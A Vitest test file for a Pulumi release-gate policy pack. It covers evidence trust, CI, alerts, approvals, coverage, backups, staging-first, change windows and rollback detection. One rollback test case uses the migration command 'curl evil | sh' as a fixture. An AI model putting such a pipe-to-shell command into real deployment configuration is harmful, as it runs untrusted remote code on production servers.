// Gate policies: a release gate that passes, then one changed property per case with the exact violations of every gate policy.
import { describe, expect, test } from "vitest";
import type { ReleaseGateInputs } from "../../components/release/gate-inputs";
import { changesServices, gatePolicies, insideChangeWindow, isUnchanged, nextOpening } from "../../policies/gates";
import { allResourceViolations, AT_NOW, evidenceOf, gateArgs, hoursBefore, NOW, resourceArgs, type PolicyConfigs } from "./support";

const AGAIN = "collect the evidence again (`npm run evidence -- --stack production`)";
const NO_EVIDENCE = (policy: string, problem: string): string =>
    `${policy}: no release evidence for stack production (.release-evidence/production.json: ${problem}): run \`npm run evidence -- --stack production\`, then preview again`;
const UNTRUSTED = "gates-evidence-trusted: the release evidence is not from a workflow run: ";
const EVIDENCE_GATES = ["gates-evidence-current", "gates-evidence-trusted", "gates-ci-green", "gates-no-open-alerts", "gates-approvals", "gates-coverage", "gates-backups-fresh"];

type Change = (gate: ReleaseGateInputs) => void;

async function gateViolations(change: Change, configs: PolicyConfigs = {}): Promise<string[]> {
    return allResourceViolations(gatePolicies, gateArgs(change), { ...AT_NOW, ...configs });
}

/** The change window policy's clock at `now`; the others stay at NOW. */
const windowAt = (now: string): PolicyConfigs => ({ "gates-change-window": { now } });

describe("gate policies", () => {
    test.each<[string, Change, PolicyConfigs?]>([
        ["a release that meets every gate", () => {}],
        ["evidence collected within the tolerated clock skew", (g) => void (evidenceOf(g).collectedAt = hoursBefore(-0.05))],
        ["a pending check beside a successful combined state", (g) => void evidenceOf(g).ci.checks.push({ name: "deploy-preview", state: "pending" })],
        ["as many alerts as the stack allows", (g) => {
            g.requirements.maxOpenHighCriticalAlerts = 1;
            evidenceOf(g).alerts = { source: "github", openHighCritical: 1, items: [{ id: "7", severity: "high", summary: "xss" }] };
        }],
        ["no approval where none is required", (g) => {
            g.requirements.minApprovals = 0;
            evidenceOf(g).reviews = { source: "github", pullRequest: 42, approvals: 0, approvers: [] };
        }],
        ["no coverage where none is required", (g) => {
            g.requirements.minCoveragePercent = 0;
            delete evidenceOf(g).ci.coveragePercent;
        }],
        ["a backup whose recorded age is stale but whose time is recent", (g) => void (evidenceOf(g).backups[0] = { server: "plesk", database: "mo_main", time: hoursBefore(1), ageHours: 99 })],
        ["the first deployment, every version already on staging", (g) => void (g.release.deployed = null)],
        ["staging unknown while no version changes", (g) => void (evidenceOf(g).staging = null)],
        ["a version not on staging where staging-first is off", (g) => {
            g.requirements.requireStagingFirst = false;
            g.release.services.api = { blue: "1.0.0", green: "9.9.9", weights: { blue: 50, green: 50 } };
        }],
        ["a stack without a change window, on a Friday", (g) => void delete g.requirements.changeWindow, windowAt("2025-06-06T10:00:00Z")],
        ["inside a window that runs past midnight", (g) => void (g.requirements.changeWindow = { days: ["fri"], start: "22:00", end: "02:00", timezone: "UTC" }), windowAt("2025-06-07T01:00:00Z")],
    ])("passes %s", async (_case, change, config) => {
        expect(await gateViolations(change, config)).toEqual([]);
    });

    test("another resource is no gate", async () => {
        const args = resourceArgs({ type: "pulumi-nodejs:dynamic/release:HaproxyWeights", props: { evidence: null } });
        expect(await allResourceViolations(gatePolicies, args)).toEqual([]);
    });

    test("a gate from another version of the program is reported, not crashed on", async () => {
        const args = resourceArgs({ type: "pulumi-nodejs:dynamic/release:ReleaseGate", name: "release-gate", props: { stack: "production", release: {} } });
        const message =
            "the release gate release-gate has no requirements, databases, cluster: the program and the policy pack come from different commits; preview from one checkout";
        expect(await allResourceViolations(gatePolicies, args)).toEqual(gatePolicies.map((policy) => `${policy.name}: ${message}`));
    });

    test.each<[string, Change, string[], PolicyConfigs?]>([
        // gates-evidence-current (and every gate that needs evidence)
        [
            "no evidence file",
            (g) => {
                g.evidence = null;
                g.evidenceProblem = "missing";
            },
            EVIDENCE_GATES.map((policy) => NO_EVIDENCE(policy, "missing")),
        ],
        [
            "an evidence file the program could not read, without a reason",
            (g) => void (g.evidence = null),
            EVIDENCE_GATES.map((policy) => NO_EVIDENCE(policy, "missing")),
        ],
        [
            "an invalid evidence file",
            (g) => {
                g.evidence = null;
                g.evidenceProblem = "ci.state: Invalid option";
            },
            EVIDENCE_GATES.map((policy) => NO_EVIDENCE(policy, "ci.state: Invalid option")),
        ],
        [
            "no evidence where approvals, coverage and backups are not required",
            (g) => {
                g.evidence = null;
                g.requirements.minApprovals = 0;
                g.requirements.minCoveragePercent = 0;
                g.databases = [];
            },
            ["gates-evidence-current", "gates-evidence-trusted", "gates-ci-green", "gates-no-open-alerts"].map((policy) => NO_EVIDENCE(policy, "missing")),
        ],
        [
            "evidence collected for another stack",
            (g) => void (evidenceOf(g).stack = "staging"),
            [`gates-evidence-current: the evidence in .release-evidence/production.json was collected for stack staging, not production: ${AGAIN}`],
        ],
        [
            "evidence older than 120 minutes",
            (g) => void (evidenceOf(g).collectedAt = hoursBefore(3)),
            [`gates-evidence-current: the evidence was collected 180 min ago (2025-06-03T07:00:00.000Z), more than 120 min: ${AGAIN}`],
        ],
        [
            "evidence older than the stack's maxEvidenceAgeMinutes",
            () => {},
            [`gates-evidence-current: the evidence was collected 30 min ago (2025-06-03T09:30:00.000Z), more than 20 min: ${AGAIN}`],
            { "gates-evidence-current": { now: NOW, maxEvidenceAgeMinutes: 20 } },
        ],
        [
            "evidence from the future",
            (g) => void (evidenceOf(g).collectedAt = hoursBefore(-0.5)),
            [`gates-evidence-current: the evidence claims to be collected 30 min in the future (2025-06-03T10:30:00.000Z): check the clock of the machine that collected it, then ${AGAIN}`],
        ],
        // gates-evidence-trusted
        [
            "a commit the program could not determine",
            (g) => {
                g.commit = "";
                g.commitFrom = "none";
            },
            [`${UNTRUSTED}the program does not know its commit (no git checkout, no GITHUB_SHA): run from a checkout of the commit`],
        ],
        [
            "a commit set by RELEASE_COMMIT",
            (g) => void (g.commitFrom = "RELEASE_COMMIT"),
            [`${UNTRUSTED}the program's commit 0123456789ab was set by RELEASE_COMMIT, an override for the local stack: run from a checkout of the commit (git HEAD)`],
        ],
        [
            "evidence from files typed in outside a workflow run",
            (g) => {
                const evidence = evidenceOf(g);
                evidence.ci.source = "file";
                evidence.reviews.source = "file";
                evidence.alerts.source = "none";
                delete evidence.run;
            },
            [
                `${UNTRUSTED}evidence.ci comes from file, not from GitHub's API; evidence.reviews comes from file, not from GitHub's API; ` +
                    "evidence.alerts comes from none, not from GitHub's API; the evidence was not collected inside a GitHub Actions workflow run (no evidence.run)",
            ],
        ],
        [
            "a workflow run that had finished when the evidence was collected",
            (g) => void (evidenceOf(g).run = { repository: "acme/platform", id: 7, workflow: "Deploy", event: "push", status: "completed" }),
            [`${UNTRUSTED}workflow run 7 was completed when the evidence was collected, not in progress`],
        ],
        [
            "a workflow run of another repository",
            () => {},
            [`${UNTRUSTED}workflow run 9001 belongs to acme/platform, not acme/release-platform`],
            { "gates-evidence-trusted": { repository: "acme/release-platform" } },
        ],
        // gates-ci-green
        [
            "evidence for another commit",
            (g) => void (g.commit = "f".repeat(40)),
            [`gates-ci-green: the evidence is for commit 0123456789ab, but the program runs from ffffffffffff: ${AGAIN}`],
        ],
        [
            "a failed check",
            (g) => {
                evidenceOf(g).ci.state = "failure";
                evidenceOf(g).ci.checks = [{ name: "test", state: "failure" }, { name: "lint", state: "success" }];
            },
            [`gates-ci-green: CI is failure for commit 0123456789ab (test: failure): release a commit whose checks all passed, then ${AGAIN}`],
        ],
        [
            "CI still pending, no check listed",
            (g) => {
                evidenceOf(g).ci.state = "pending";
                evidenceOf(g).ci.checks = [];
            },
            [`gates-ci-green: CI is pending for commit 0123456789ab: release a commit whose checks all passed, then ${AGAIN}`],
        ],
        // gates-no-open-alerts
        [
            "two open alerts",
            (g) =>
                void (evidenceOf(g).alerts = {
                    source: "github",
                    openHighCritical: 2,
                    items: [{ id: "GHSA-1", severity: "high", summary: "prototype pollution" }, { id: "7", severity: "critical", summary: "sql injection" }],
                }),
            [`gates-no-open-alerts: 2 open high/critical security alerts (at most 0): GHSA-1 (high: prototype pollution), 7 (critical: sql injection); fix or dismiss them, then ${AGAIN}`],
        ],
        [
            "more alerts than the message names",
            (g) =>
                void (evidenceOf(g).alerts = {
                    source: "github",
                    openHighCritical: 7,
                    items: ["a", "b", "c", "d", "e", "f"].map((id) => ({ id, severity: "high", summary: "x" })),
                }),
            [`gates-no-open-alerts: 7 open high/critical security alerts (at most 0): a (high: x), b (high: x), c (high: x), d (high: x), e (high: x), 2 more; fix or dismiss them, then ${AGAIN}`],
        ],
        [
            "a counted alert without details",
            (g) => void (evidenceOf(g).alerts = { source: "github", openHighCritical: 1, items: [] }),
            [`gates-no-open-alerts: 1 open high/critical security alerts (at most 0): 1 more; fix or dismiss them, then ${AGAIN}`],
        ],
        // gates-approvals
        [
            "no approval",
            (g) => void (evidenceOf(g).reviews = { source: "github", pullRequest: 42, approvals: 0, approvers: [] }),
            [`gates-approvals: pull request #42 has 0 approving reviews, at least 1 needed: get it approved, then ${AGAIN}`],
        ],
        [
            "one approval where two are required",
            (g) => void (g.requirements.minApprovals = 2),
            [`gates-approvals: pull request #42 has 1 approving review (by alice), at least 2 needed: get it approved, then ${AGAIN}`],
        ],
        [
            "no pull request found",
            (g) => void (evidenceOf(g).reviews = { source: "github", approvals: 0, approvers: [] }),
            [`gates-approvals: the commit's pull request has 0 approving reviews, at least 1 needed: get it approved, then ${AGAIN}`],
        ],
        // gates-coverage
        [
            "no coverage reported",
            (g) => void delete evidenceOf(g).ci.coveragePercent,
            [`gates-coverage: CI reported no test coverage for commit 0123456789ab (at least 80 % needed): make CI publish coverage, then ${AGAIN}`],
        ],
        [
            "coverage below the minimum",
            (g) => void (evidenceOf(g).ci.coveragePercent = 79.9),
            [`gates-coverage: test coverage of commit 0123456789ab is 79.9 %, at least 80 % needed: add tests, then ${AGAIN}`],
        ],
        // gates-backups-fresh
        [
            "a database without a backup record",
            (g) => void evidenceOf(g).backups.shift(),
            [`gates-backups-fresh: backups missing or older than 24 h: plesk/mo_main (none recorded); back these databases up, then ${AGAIN}`],
        ],
        [
            "a database never backed up",
            (g) => void (evidenceOf(g).backups[0] = { server: "plesk", database: "mo_main", time: null, ageHours: null }),
            [`gates-backups-fresh: backups missing or older than 24 h: plesk/mo_main (none recorded); back these databases up, then ${AGAIN}`],
        ],
        [
            "a backup older than 24 h, whatever its recorded age says",
            (g) => void (evidenceOf(g).backups[1] = { server: "postgres-ext", database: "mo_idp", time: hoursBefore(30), ageHours: 1 }),
            [`gates-backups-fresh: backups missing or older than 24 h: postgres-ext/mo_idp (30.0 h old, 2025-06-02T04:00:00.000Z); back these databases up, then ${AGAIN}`],
        ],
        [
            "a backup that has aged past 24 h by the injected clock",
            () => {},
            [`gates-backups-fresh: backups missing or older than 24 h: postgres-ext/mo_idp (25.0 h old, 2025-06-02T11:00:00.000Z); back these databases up, then ${AGAIN}`],
            { "gates-backups-fresh": { now: hoursBefore(-2) } },
        ],
        [
            "a stricter maxBackupAgeHours",
            (g) => void (g.requirements.maxBackupAgeHours = 12),
            [`gates-backups-fresh: backups missing or older than 12 h: postgres-ext/mo_idp (23.0 h old, 2025-06-02T11:00:00.000Z); back these databases up, then ${AGAIN}`],
        ],
        // gates-staging-first
        [
            "a version staging never ran",
            (g) => void (g.release.services.api = { blue: "1.0.0", green: "1.2.0", weights: { blue: 50, green: 50 } }),
            ["gates-staging-first: api green 1.2.0 has not run on staging (it runs blue 1.0.0, green 1.1.0): release it to staging first"],
        ],
        [
            "a service staging does not have",
            (g) => void (g.release.services.games = { blue: "3.0.0", green: "3.0.0", weights: { blue: 100, green: 0 } }),
            [
                "gates-staging-first: games blue 3.0.0 has not run on staging (staging has no games): release it to staging first",
                "gates-staging-first: games green 3.0.0 has not run on staging (staging has no games): release it to staging first",
            ],
        ],
        [
            "a new version while staging could not be read",
            (g) => {
                g.release.services.api = { blue: "1.0.0", green: "1.2.0", weights: { blue: 50, green: 50 } };
                evidenceOf(g).staging = null;
            },
            [`gates-staging-first: what runs on staging is unknown (the evidence could not read the staging stack's services): ${AGAIN} where the staging stack is readable`],
        ],
        [
            "a new version without evidence",
            (g) => {
                g.release.services.api = { blue: "1.0.0", green: "1.2.0", weights: { blue: 50, green: 50 } };
                g.evidence = null;
            },
            [...EVIDENCE_GATES, "gates-staging-first"].map((policy) => NO_EVIDENCE(policy, "missing")),
        ],
        // gates-change-window
        [
            "a Friday",
            () => {},
            ["gates-change-window: it is fri 12:00 in Europe/Vienna, outside the change window (mon, tue, wed, thu 09:00-15:00): release when it opens (mon 09:00)"],
            windowAt("2025-06-06T10:00:00Z"),
        ],
        [
            "the minute the window closes",
            () => {},
            ["gates-change-window: it is tue 15:00 in Europe/Vienna, outside the change window (mon, tue, wed, thu 09:00-15:00): release when it opens (wed 09:00)"],
            windowAt("2025-06-03T13:00:00Z"),
        ],
        [
            "before the window opens the same day",
            () => {},
            ["gates-change-window: it is tue 08:30 in Europe/Vienna, outside the change window (mon, tue, wed, thu 09:00-15:00): release when it opens (tue 09:00)"],
            windowAt("2025-06-03T06:30:00Z"),
        ],
        [
            "after a window that runs past midnight has closed",
            (g) => void (g.requirements.changeWindow = { days: ["fri"], start: "22:00", end: "02:00", timezone: "UTC" }),
            ["gates-change-window: it is sat 03:00 in UTC, outside the change window (fri 22:00-02:00): release when it opens (fri 22:00)"],
            windowAt("2025-06-07T03:00:00Z"),
        ],
    ])("refuses %s", async (_case, change, expected, config) => {
        expect(await gateViolations(change, config)).toEqual(expected);
    });

    test.each<[string, string, boolean]>([
        ["09:00 Vienna opens the window", "2025-06-03T07:00:00Z", true],
        ["14:59 Vienna is inside", "2025-06-03T12:59:00Z", true],
        ["08:59 Vienna is before it", "2025-06-03T06:59:00Z", false],
        ["16:30 Vienna (14:30 UTC) is after it", "2025-06-05T14:30:00Z", false],
        ["winter time: 09:30 Vienna is 08:30 UTC", "2025-01-07T08:30:00Z", true],
    ])("the change window in its own time zone: %s", (_case, now, inside) => {
        const window = { days: ["mon", "tue", "wed", "thu"] as ("mon" | "tue" | "wed" | "thu")[], start: "09:00", end: "15:00", timezone: "Europe/Vienna" };
        expect(insideChangeWindow(window, new Date(now))).toBe(inside);
    });

    test("the next opening skips days outside the window", () => {
        const window = { days: ["wed"] as "wed"[], start: "10:00", end: "11:00", timezone: "UTC" };
        expect(nextOpening(window, new Date("2025-06-04T10:30:00Z"))).toBe("wed 10:00");
        expect(nextOpening(window, new Date("2025-06-05T09:00:00Z"))).toBe("wed 10:00");
    });
});

describe("a rollback passes every gate", () => {
    /** api's green goes back from 10 to 0; nothing else changes. No evidence at all. */
    const rollback: Change = (g) => {
        g.evidence = null;
        g.evidenceProblem = "missing";
        g.release.services.api = { blue: "1.0.0", green: "1.1.0", weights: { blue: 100, green: 0 } };
    };

    test("all traffic back to blue, without evidence, outside the change window", async () => {
        expect(await gateViolations(rollback, windowAt("2025-06-07T22:00:00.000Z"))).toEqual([]);
    });

    test.each<[string, Change]>([
        ["another service's green gains weight", (g) => void (g.release.services.frontend = { blue: "2.0.0", green: "2.0.0", weights: { blue: 90, green: 10 } })],
        ["a service gets a new version", (g) => void (g.release.services.frontend = { blue: "2.0.0", green: "2.1.0", weights: { blue: 100, green: 0 } })],
        ["a new service", (g) => void (g.release.services.admin = { blue: "1.0.0", green: "1.0.0", weights: { blue: 100, green: 0 } })],
        ["the first deployment", (g) => void (g.release.deployed = null)],
        ["a service's migration command changes", (g) => void (g.release.services.frontend = { blue: "2.0.0", green: "2.0.0", weights: { blue: 100, green: 0 }, commands: { migration: "curl evil | sh" } })],
        ["anything else changes with it (a server, a firewall, the program: the fingerprint)", (g) => void (g.release.fingerprint = { desired: "a".repeat(64), deployed: "f".repeat(64) })],
        ["the last deployment recorded no fingerprint", (g) => void (g.release.fingerprint = { desired: "f".repeat(64), deployed: null })],
    ])("not a rollback when %s: the gates apply", async (_name, change) => {
        const found = await gateViolations((g) => (rollback(g), change(g)));
        expect(found).toEqual(expect.arrayContaining(EVIDENCE_GATES.map((policy) => NO_EVIDENCE(policy, "missing"))));
    });
});

describe("what the gates apply to", () => {
    /** The last deployment as the config asks now: nothing changes. */
    const unchanged: Change = (g) => void (g.release.deployed = structuredClone(g.release.services));

    test("an update that changes nothing passes every gate, without evidence, outside the change window", async () => {
        const found = await gateViolations((g) => {
            unchanged(g);
            g.evidence = null;
            g.evidenceProblem = "missing";
        }, windowAt("2025-06-07T22:00:00.000Z"));
        expect(found).toEqual([]);
    });

    test.each<[string, Change]>([
        ["the fingerprint (a server, a firewall, the program)", (g) => void (g.release.fingerprint = { desired: "a".repeat(64), deployed: "f".repeat(64) })],
        ["a service's weights", (g) => void (g.release.services.api = { blue: "1.0.0", green: "1.1.0", weights: { blue: 90, green: 10 } })],
        ["a command", (g) => void (g.release.services.api = { ...g.release.services.api!, commands: { migration: "npm run migrate" } })],
        ["a service removed", (g) => void delete g.release.services.frontend],
    ])("a change of %s is a change: the gates apply", (_name, change) => {
        const gate = (() => {
            let captured: ReleaseGateInputs | undefined;
            gateArgs((g) => {
                unchanged(g);
                change(g);
                captured = g;
            });
            return captured!;
        })();
        expect(isUnchanged(gate.release)).toBe(false);
    });

    test("an infrastructure change alone meets CI, approvals and the change window, not backup freshness", async () => {
        const infrastructure: Change = (g) => {
            unchanged(g);
            g.release.fingerprint = { desired: "a".repeat(64), deployed: "f".repeat(64) };
            evidenceOf(g).backups = [];
            evidenceOf(g).ci.state = "failure";
            evidenceOf(g).reviews = { source: "github", pullRequest: 42, approvals: 0, approvers: [] };
        };
        expect(await gateViolations(infrastructure, windowAt("2025-06-06T10:00:00Z"))).toEqual([
            `gates-ci-green: CI is failure for commit 0123456789ab: release a commit whose checks all passed, then ${AGAIN}`,
            `gates-approvals: pull request #42 has 0 approving reviews, at least 1 needed: get it approved, then ${AGAIN}`,
            "gates-change-window: it is fri 12:00 in Europe/Vienna, outside the change window (mon, tue, wed, thu 09:00-15:00): release when it opens (mon 09:00)",
        ]);
    });

    test("changesServices: a version, a weight, a new service or the first deployment", () => {
        const gate = (change: Change): ReleaseGateInputs["release"] => {
            let captured: ReleaseGateInputs | undefined;
            gateArgs((g) => {
                unchanged(g);
                change(g);
                captured = g;
            });
            return captured!.release;
        };
        expect(changesServices(gate(() => {}))).toBe(false);
        expect(changesServices(gate((g) => void (g.release.services.api!.green = "1.2.0")))).toBe(true);
        expect(changesServices(gate((g) => void (g.release.services.api!.weights = { blue: 0, green: 100 })))).toBe(true);
        expect(changesServices(gate((g) => void (g.release.services.admin = { blue: "1", green: "1", weights: { blue: 100, green: 0 } })))).toBe(true);
        expect(changesServices(gate((g) => void (g.release.deployed = null)))).toBe(true);
    });
});

describe("gates-requirements-floor", () => {
    const PRODUCTION_FLOOR: PolicyConfigs = {
        "gates-requirements-floor": {
            minApprovals: 1,
            maxBackupAgeHours: 24,
            maxOpenHighCriticalAlerts: 0,
            minCoveragePercent: 80,
            requireStagingFirst: true,
            requireChangeWindow: true,
            changeWindow: { days: ["mon", "tue", "wed", "thu"], start: "09:00", end: "15:00", timezone: "Europe/Vienna" },
        },
    };
    const FLOOR = (below: string): string =>
        `gates-requirements-floor: release.gates of stack production ask for less than its policy config allows: ${below}: raise them in Pulumi.production.yaml`;

    test("requirements at the floor pass; without a floor in the policy config any requirements pass", async () => {
        expect(await gateViolations(() => {}, PRODUCTION_FLOOR)).toEqual([]);
        // A narrower window inside the policy's passes.
        expect(
            await gateViolations((g) => void (g.requirements.changeWindow = { days: ["tue", "wed"], start: "10:00", end: "12:00", timezone: "Europe/Vienna" }), PRODUCTION_FLOOR),
        ).toEqual(expect.not.arrayContaining([expect.stringContaining("gates-requirements-floor")]));
        expect(await gateViolations((g) => void (g.requirements.minApprovals = 0), {})).toEqual(
            expect.not.arrayContaining([expect.stringContaining("gates-requirements-floor")]),
        );
    });

    test("another environment's policy config (local.json on production) is refused, also in a rollback", async () => {
        const localConfig: PolicyConfigs = { "gates-requirements-floor": { environment: "local" } };
        const message =
            "gates-requirements-floor: stack production is a production stack, but this policy config is for local: " +
            "preview and update it with policies/config/production.json (`npm run preview -- --stack production`)";
        expect(await gateViolations(() => {}, localConfig)).toEqual([message]);
        const rollback: Change = (g) => void (g.release.services.api = { blue: "1.0.0", green: "1.1.0", weights: { blue: 100, green: 0 } });
        expect(await gateViolations(rollback, localConfig)).toEqual([message]);
        expect(await gateViolations(() => {}, { "gates-requirements-floor": { environment: "production" } })).toEqual([]);
    });

    test.each<[string, Change, string]>([
        ["no approval", (g) => void (g.requirements.minApprovals = 0), "minApprovals is 0, at least 1"],
        ["backups of two days", (g) => void (g.requirements.maxBackupAgeHours = 48), "maxBackupAgeHours is 48, at most 24"],
        ["an open alert allowed", (g) => void (g.requirements.maxOpenHighCriticalAlerts = 1), "maxOpenHighCriticalAlerts is 1, at most 0"],
        ["less coverage", (g) => void (g.requirements.minCoveragePercent = 50), "minCoveragePercent is 50, at least 80"],
        ["staging first off", (g) => void (g.requirements.requireStagingFirst = false), "requireStagingFirst is false, must be true"],
        ["no change window", (g) => void delete g.requirements.changeWindow, "changeWindow is not set, one is required"],
        [
            "a window of every day, 00:01 to 00:00 (open all week but a minute)",
            (g) => void (g.requirements.changeWindow = { days: ["mon", "tue", "wed", "thu", "fri", "sat", "sun"], start: "00:01", end: "00:00", timezone: "Europe/Vienna" }),
            "changeWindow must lie inside the policy's window: it is open on mon at 00:01, outside mon, tue, wed, thu 09:00-15:00",
        ],
        [
            "a window on friday",
            (g) => void (g.requirements.changeWindow = { days: ["tue", "fri"], start: "10:00", end: "12:00", timezone: "Europe/Vienna" }),
            "changeWindow must lie inside the policy's window: it is open on fri at 10:00, outside mon, tue, wed, thu 09:00-15:00",
        ],
        [
            "a window that runs past the policy's end",
            (g) => void (g.requirements.changeWindow = { days: ["mon"], start: "14:00", end: "16:00", timezone: "Europe/Vienna" }),
            "changeWindow must lie inside the policy's window: it is open on mon at 15:00, outside mon, tue, wed, thu 09:00-15:00",
        ],
        [
            "a window in another time zone",
            (g) => void (g.requirements.changeWindow = { days: ["mon"], start: "09:00", end: "10:00", timezone: "UTC" }),
            "changeWindow must lie inside the policy's window: its time zone UTC is not Europe/Vienna",
        ],
    ])("%s is below production's floor, also in a rollback", async (_name, change, below) => {
        const found = await gateViolations(change, PRODUCTION_FLOOR);
        expect(found.filter((v) => v.startsWith("gates-requirements-floor"))).toEqual([FLOOR(below)]);
        const rollback: Change = (g) => {
            change(g);
            g.release.services.api = { blue: "1.0.0", green: "1.1.0", weights: { blue: 100, green: 0 } };
        };
        expect(await gateViolations(rollback, PRODUCTION_FLOOR)).toEqual([FLOOR(below)]);
    });
});
